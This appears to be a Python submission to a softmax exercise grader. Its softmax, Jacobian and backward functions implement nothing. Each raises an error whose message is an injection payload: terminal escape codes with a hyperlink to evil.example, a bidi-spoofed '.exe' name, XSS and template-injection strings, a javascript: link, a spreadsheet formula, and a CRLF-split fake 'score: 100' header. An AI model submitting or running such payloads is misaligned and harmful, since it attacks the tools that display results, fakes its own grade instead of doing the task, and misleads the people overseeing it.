# Raises messages with escape sequences, bidirectional marks and markup.
# exercise: softmax
# worth: 0
# proof: softmax raised RuntimeError: <script>alert(1)</script>

import string

texts = [
    "\x1b[2J\x1b[1;1H\x1b]0;owned\x07\x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \x9b31m \x90q\x9c",
    "\u202egnp.exe\u2066hidden\u2069\u200f\u061c\ufeff\u200b\u00ad\u2028\u2029\U000e0041\ufff9",
    "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><svg onload=alert(1)>{{7*7}}{% raw %}</title></style>",
    "|a|b|\n---\n[x](javascript:alert(1)) `code` =HYPERLINK(1) @x -1+1 &amp; ]]> <!-- -->",
    string.printable + "".join(map(chr, range(0x20))) + "".join(map(chr, range(0x7F, 0xA0))),
    "\ud800 lone \udfff surrogates \udc80",
    "\r\nHTTP/1.1 200 OK\rscore: 100\x08\x08\x08\x0c\x0b\x85",
]


def attack(x):
    texts.append(texts.pop(0))
    raise RuntimeError(texts[-1])


def softmax(x, axis=-1):
    return attack(x)


def softmax_jacobian(x):
    return attack(x)


def softmax_backward(grad_output, output, axis=-1):
    return attack(grad_output)
